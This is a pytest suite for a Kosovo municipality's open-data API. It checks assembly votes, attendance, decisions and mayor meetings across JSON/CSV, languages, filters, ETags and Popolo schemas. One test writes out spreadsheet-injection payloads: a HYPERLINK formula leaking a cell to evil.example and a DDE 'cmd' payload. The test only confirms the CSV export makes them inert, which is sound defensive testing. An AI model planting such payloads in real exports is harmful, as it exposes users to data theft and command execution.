"""The assembly's open feeds (``/v1/open/assembly-*``, ``/v1/open/mayor-meetings``) through
the real gateway: every feed in JSON and CSV with the same rows, labels in the language asked
for, strict filters with localised refusals, cursors, ETag and 304; and the vote feed's records
checked against the Popolo JSON Schemas shipped in ``contracts/popolo/``.

Lipjan (13) publishes an archive session (held last month, its agenda's publication declared)
with votes, an adopted decision of its mayor and two public meetings.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from jsonschema import Draft3Validator
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT3

from gateway.assembly.channel import FEEDS
from gateway.kosovo_days import end_of_day, kosovo_date
from tests.fixtures.participation import municipality_headers

POPOLO = Path(__file__).resolve().parents[3] / "contracts" / "popolo"
CODE = "13"
NAMES = ("a", "b", "c", "d", "e", "f", "g")


@pytest.fixture(scope="module")
def lipjan(participation_client: TestClient) -> dict[str, Any]:
    prefix = uuid.uuid4().hex[:6]
    headers = municipality_headers(CODE)
    members = [
        {
            "member_id": f"{prefix}-{name}",
            "municipality": CODE,
            "mandate": "2025-2029",
            "name": f"Anëtari {name.upper()}",
            "party": ("LDK", "VV", "PDK")[index % 3],
            "office_from": "2025-11-20",
        }
        for index, name in enumerate(NAMES)
    ]
    put = participation_client.put(
        f"/v1/assemblies/{CODE}/members", headers=headers, json={"members": members}
    )
    assert put.status_code == 200, put.text
    held = datetime.now(UTC) - timedelta(days=30)
    session = participation_client.post(
        f"/v1/assemblies/{CODE}/sessions",
        headers=headers,
        json={
            "municipality": CODE,
            "reference": f"KK-{prefix}",
            "kind": "regular",
            "held_at": held.isoformat(),
            "agenda_published_at": (held - timedelta(days=8)).isoformat(),
            "agenda": [
                {"number": 1, "title": {"sq": "Buxheti 2027", "sr": "Budžet za 2027"}},
                {"number": 2, "title": {"sq": "Rregullore për tregun", "sr": "Pravilnik o pijaci"}},
            ],
        },
    )
    assert session.status_code == 201, session.text
    session_id = session.json()["session_id"]
    for item, options, outcome in (
        (1, {"a": "for", "b": "for", "c": "for", "d": "against", "e": "abstained"}, "adopted"),
        (2, {"a": "against", "b": "against", "c": "for", "d": "for", "e": "against"}, "rejected"),
    ):
        vote = participation_client.put(
            f"/v1/assemblies/{CODE}/sessions/{session_id}/items/{item}/vote",
            headers=headers,
            json={
                "outcome": outcome,
                "votes": [
                    {"member_id": f"{prefix}-{n}", "option": options.get(n, "absent")}
                    for n in NAMES
                ],
                "decision": {"sq": "Miratohet buxheti 2027", "sr": "Usvaja se budžet za 2027"},
            },
        )
        assert vote.status_code == 200, vote.text
    decision = participation_client.post(
        f"/v1/assemblies/{CODE}/mayor/decisions",
        headers=headers,
        json={
            "municipality": CODE,
            "number": f"02-{prefix}",
            "title": {"sq": "Vendim për orarin e tregut", "sr": "Odluka o radnom vremenu pijace"},
            "decided_on": held.date().isoformat(),
        },
    )
    assert decision.status_code == 201, decision.text
    for hour in (10, 17):
        meeting = participation_client.post(
            f"/v1/assemblies/{CODE}/mayor/meetings",
            headers=headers,
            json={
                "municipality": CODE,
                "reference": f"TP-{prefix}-{hour}",
                "held_at": (tomorrow_in_kosovo() + timedelta(hours=hour)).isoformat(),
                "place": {"sq": "Shtëpia e Kulturës", "sr": "Dom kulture"},
                "topics": [{"sq": "Rrugët", "sr": "Putevi"}],
            },
        )
        assert meeting.status_code == 201, meeting.text
    return {"prefix": prefix, "session_id": session_id}


def tomorrow_in_kosovo() -> datetime:
    """Kosovo's next midnight: both meetings fall on one Kosovo day, so in one year, even
    when the suite runs on 31 December."""
    return end_of_day(kosovo_date(datetime.now(UTC)))


def _json(client: TestClient, feed: str, **params: str) -> Any:
    answer = client.get(f"/v1/open/{feed}", params={"municipality": CODE, **params})
    assert answer.status_code == 200, (feed, answer.text)
    return answer


@pytest.mark.parametrize("feed", FEEDS)
def test_each_feed_gives_the_same_rows_in_json_and_csv(
    participation_client: TestClient, lipjan: dict[str, Any], feed: str
) -> None:
    as_json = _json(participation_client, feed, page_size="1000")
    rows = as_json.json()["data"]
    assert rows, f"{feed} shows Lipjan's data"
    as_csv = participation_client.get(
        f"/v1/open/{feed}", params={"municipality": CODE, "page_size": "1000", "format": "csv"}
    )
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert len(lines) == len(rows)
    assert [line["municipality"] for line in lines] == [row["municipality"] for row in rows]
    etag = as_json.headers["etag"]
    again = participation_client.get(
        f"/v1/open/{feed}",
        params={"municipality": CODE, "page_size": "1000"},
        headers={"If-None-Match": etag},
    )
    assert again.status_code == 304


def test_a_formula_in_a_members_name_is_inert_in_the_csv(
    participation_client: TestClient, lipjan: dict[str, Any]
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Shiko")'
    member = {
        "member_id": f"{lipjan['prefix']}-x",
        "municipality": CODE,
        "mandate": "2021-2025",
        "name": formula,
        "party": "+cmd|' /C calc'!A0",
        "office_from": "2021-11-20",
        "office_until": "2025-11-19",
    }
    put = participation_client.put(
        f"/v1/assemblies/{CODE}/members",
        headers=municipality_headers(CODE),
        json={"members": [member]},
    )
    assert put.status_code == 200, put.text
    as_csv = participation_client.get(
        "/v1/open/assembly-members", params={"municipality": CODE, "format": "csv"}
    )
    (line,) = [r for r in csv.DictReader(io.StringIO(as_csv.text)) if r["mandate"] == "2021-2025"]
    assert line["name"] == "'" + formula and line["party"].startswith("'+")
    assert line["in_office"] == "false"


def test_labels_come_in_the_language_asked_for(
    participation_client: TestClient, lipjan: dict[str, Any]
) -> None:
    sessions = {
        language: _json(participation_client, "assembly-sessions", lang=language).json()["data"]
        for language in ("sq", "sr", "en")
    }
    assert {row["kind_name"] for row in sessions["sq"]} == {"E rregullt"}
    assert {row["kind_name"] for row in sessions["sr"]} == {"Redovna"}
    assert {row["item_title"] for row in sessions["sr"]} == {"Budžet za 2027", "Pravilnik o pijaci"}
    votes = _json(participation_client, "assembly-member-votes", lang="en", option="absent")
    assert {row["option_name"] for row in votes.json()["data"]} == {"Absent"}
    assert len(votes.json()["data"]) == 4, "g was absent from both items, f too"


def test_filters_and_cursors(participation_client: TestClient, lipjan: dict[str, Any]) -> None:
    adopted = _json(participation_client, "assembly-votes", result="adopted").json()["data"]
    assert [row["item_number"] for row in adopted] == [1]
    assert adopted[0]["present"] == 5 and adopted[0]["members"] == 7 and adopted[0]["quorum"]
    bad = participation_client.get(
        "/v1/open/assembly-votes", params={"result": "maybe", "lang": "sr"}
    )
    assert bad.status_code == 400 and bad.json()["code"] == "open.filter.invalid"
    assert bad.json()["title"] == "Filter zahteva nije ispravan"
    first = _json(participation_client, "assembly-member-votes", page_size="3").json()
    cursor = first["page"]["next_cursor"]
    assert cursor
    second = _json(participation_client, "assembly-member-votes", page_size="3", cursor=cursor)
    seen = {(r["item_number"], r["member_id"]) for r in first["data"]}
    assert seen.isdisjoint((r["item_number"], r["member_id"]) for r in second.json()["data"])


def test_attendance_per_member_and_per_mandate(
    participation_client: TestClient, lipjan: dict[str, Any]
) -> None:
    rows = _json(participation_client, "assembly-attendance").json()["data"]
    mandate = next(r for r in rows if r["level"] == "mandate")
    by_member = {r["member_id"]: r for r in rows if r["level"] == "member"}
    prefix = lipjan["prefix"]
    assert by_member[f"{prefix}-a"]["attendance_rate"] == 1.0
    assert by_member[f"{prefix}-g"]["attendance_rate"] == 0.0
    # 7 members in one session: 5 attended it.
    assert (mandate["sessions"], mandate["attended"]) == (7, 5)


def test_decisions_and_the_mayors_meetings(
    participation_client: TestClient, lipjan: dict[str, Any]
) -> None:
    decisions = _json(participation_client, "assembly-decisions", lang="en").json()["data"]
    assert {(r["issuer"], r["legality_review"]) for r in decisions} == {
        ("assembly", "not_submitted"),
        ("mayor", "not_submitted"),
    }, "the rejected item is no decision"
    meetings = _json(participation_client, "mayor-meetings").json()["data"]
    year = kosovo_date(tomorrow_in_kosovo()).year
    this_year = next(r for r in meetings if r["year"] == year)
    assert this_year["meetings_required"] == 2
    assert this_year["meetings_held"] + this_year["meetings_planned"] >= 2
    assert this_year["requirement_met"] is (this_year["meetings_held"] >= 2)
    only = _json(participation_client, "mayor-meetings", year=str(year)).json()["data"]
    assert [row["year"] for row in only] == [year]
    unknown = participation_client.get("/v1/open/mayor-meetings", params={"year": "1999"})
    assert unknown.status_code == 404 and unknown.json()["code"] == "open.year.unknown"
    assert year in unknown.json()["published_years"]


def _popolo_validator(name: str) -> Draft3Validator:
    registry: Registry[Any] = Registry()
    schemas = {}
    for path in POPOLO.glob("*.json"):
        schema = json.loads(path.read_text())
        schemas[path.stem] = schema
        resource = Resource(contents=schema, specification=DRAFT3)
        # The schemas name each other with and without "www."; both resolve here.
        for host in ("http://www.popoloproject.com", "http://popoloproject.com"):
            registry = registry.with_resource(f"{host}/schemas/{path.name}", resource)
    return Draft3Validator(schemas[name], registry=registry)


def test_the_vote_feed_is_popolo(participation_client: TestClient, lipjan: dict[str, Any]) -> None:
    vote_event, vote, count = (_popolo_validator(name) for name in ("vote_event", "vote", "count"))
    rows = _json(participation_client, "assembly-votes").json()["data"]
    assert rows
    for row in rows:
        event = row["popolo"]["vote_event"]
        assert not list(vote_event.iter_errors(event))
        for each in event["votes"]:
            assert not list(vote.iter_errors(each))
        for each in event["counts"]:
            assert not list(count.iter_errors(each))
        assert {c["option"] for c in event["counts"]} == {"yes", "no", "abstain", "absent"}
    # A record that breaks the schema is caught: the check can fail.
    assert list(count.iter_errors({"option": "yes", "value": "three"}))

    person, membership, organization = (
        _popolo_validator(name) for name in ("person", "membership", "organization")
    )
    for row in _json(participation_client, "assembly-members").json()["data"]:
        assert not list(person.iter_errors(row["popolo"]["person"]))
        assert not list(membership.iter_errors(row["popolo"]["membership"]))
        assert not list(organization.iter_errors(row["popolo"]["organization"]))
    motion = _popolo_validator("motion")
    for row in _json(participation_client, "assembly-sessions").json()["data"]:
        assert not list(motion.iter_errors(row["popolo_motion"]))
